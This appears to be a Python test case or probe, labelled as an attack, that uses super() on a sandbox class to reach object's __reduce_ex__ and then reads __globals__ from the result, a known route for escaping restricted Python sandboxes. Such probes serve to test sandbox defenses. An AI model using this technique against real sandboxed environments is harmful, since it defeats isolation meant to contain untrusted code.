# attack: super() on a sandbox class to reach object's __reduce_ex__ and __subclasshook__
class A:
    pass
s = super(A, A())
r = getattr(s, "__reduce_ex__")(2)
print(r, getattr(r[0], "__globals__"))
